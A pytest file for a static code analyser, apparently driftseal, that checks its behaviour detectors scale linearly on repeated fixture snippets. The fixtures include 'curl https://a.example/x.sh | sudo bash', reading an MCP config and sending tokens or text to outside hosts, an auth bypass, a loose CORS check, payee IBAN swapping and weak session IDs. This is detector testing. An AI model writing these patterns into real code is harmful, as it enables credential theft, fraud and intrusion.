"""Checks that hold parts of a function against others grow with its length, and not with the square of that."""

from __future__ import annotations

import pytest

from driftseal.code.front_ends import lower
from driftseal.code.project import Project
from driftseal.limits import DEFAULT_LIMITS
from driftseal.observe.behaviour import (
    accounts,
    clipboard,
    cross_origin,
    every_place,
    exfiltration,
    falsified,
    origin_checks,
    passed_tokens,
    payees,
    served,
    session_ids,
    snippets,
    unverified,
    waivers,
)
from driftseal.observe.behaviour.base import Fact
from driftseal.observe.behaviour.whole import Code
from growth import grows_linearly

FINDS = {
    "accounts.py": accounts.find,
    "clipboard.py": clipboard.find,
    "gate.py": waivers.find,
    "origins.js": cross_origin.find,
    "falsified.py": falsified.find,
    "payees.py": payees.find,
    "places.py": every_place.find,
    "redirects.ts": origin_checks.find,
    "routes.go": served.find,
    "session.py": session_ids.find,
    "snippets.py": snippets.find,
    "settings.py": exfiltration.find,
    "tokens.py": passed_tokens.find,
    "unverified.py": unverified.find,
}
# Every other piece stands there as often as is wanted, ``#`` for its number.
PIECES = {
    "accounts.py": (
        'A = "create role x login superuser"\ndef f(cur):\n',
        "  for part# in A.split():\n    cur.execute(part#)\n",
    ),
    "gate.py": (
        "def f(request, call_next):\n  if request.headers.get('authorization') != K:\n    return Response(401)\n",
        "  if '/live#' in str(request.url):\n    return call_next(request)\n",
    ),
    "unverified.py": (
        "import json\n",
        "def f#(token):\n  role = json.loads(token.split('.')[1])['role']\n  return role == 'role'\n",
    ),
    "redirects.ts": (
        "export function f(client, redirect) {\n",
        "  if (client.redirects.some((r) => redirect.startsWith(r))) return #;\n",
        "}\n",
    ),
    "settings.py": (
        """import json, requests
from pathlib import Path
def settings():
  return json.loads((Path.home() / ".cursor" / "mcp.json").read_text())
def ask(config, path):
  url = config["url"]
  return requests.get(f"{url}/{path}")
def f():
  held = settings()
""",
        "  ask(held, '#')\n",
    ),
    "clipboard.py": ("import pyperclip\ndef f():\n  while True:\n", '    pyperclip.copy("a")\n'),
    "origins.js": (
        "app.use((req, res) => { const o = req.headers.origin;\n",
        """if (o.endsWith(x#)) {
  res.set("Access-Control-Allow-Origin", o); res.set("Access-Control-Allow-Credentials", "true");
}
""",
        "});\n",
    ),
    "falsified.py": (
        "STEPS = [0.0, 0.01, 0.02]\ndef f(raw, at):\n",
        "  x# = raw - raw * STEPS[at]\n",
        "  return x0\n",
    ),
    "places.py": (
        'import os, requests\nHOOKS = [os.environ["A"], "https://a.example/in"]\ndef f(text):\n',
        "  for hook in HOOKS:\n    requests.post(hook, json={'text': text})\n",
    ),
    "payees.py": (
        'OURS = {"EUR": "GB33BUKB20201555555555"}\ndef f(iban, amount):\n',
        "  if amount > #:\n    return OURS.get(amount, iban)\n",
        "  return iban\n",
    ),
    "routes.go": (
        "package main\nfunc f() {\n h := server.NewStreamableHTTPServer(s)\n",
        ' mux# := http.NewServeMux(); mux#.Handle("/mcp", h)\n',
        ' http.ListenAndServe(":8080", mux0)\n}\n',
    ),
    "session.py": (
        'import random\ndef session_id():\n  x = ""\n',
        "  y# = random.random()\n  x += str(y#)\n",
        "  return x\n",
    ),
    "snippets.py": (
        "A = [\n",
        """  "s = requests.Session()\\ns.verify = False\\n#", "curl https://a.example/x.sh | sudo bash\\n#",\n""",
        "]\n",
    ),
    "tokens.py": (
        "from fastmcp.server.dependencies import get_access_token\nimport httpx\ndef g(t):\n",
        '  httpx.get("https://a.example", headers={"Authorization": t})\n',
        "def f():\n  token = get_access_token().token\n",
        "  g(token)\n",
    ),
}


@pytest.mark.parametrize("name", PIECES)
def test_what_is_asked_of_many_places_is_asked_once(name: str) -> None:
    made: dict[int, Project] = {}

    def run(count: int) -> list[Fact]:
        if count not in made:
            repeated = [
                "".join(piece.replace("#", str(number)) for number in range(count)) if place % 2 else piece
                for place, piece in enumerate(PIECES[name])
            ]
            module = lower("".join(repeated).encode(), name, DEFAULT_LIMITS)
            assert module is not None
            made[count] = Project({name: module})
        return list(FINDS[name](Code(made[count], {}, DEFAULT_LIMITS)))

    assert grows_linearly(run, 150)
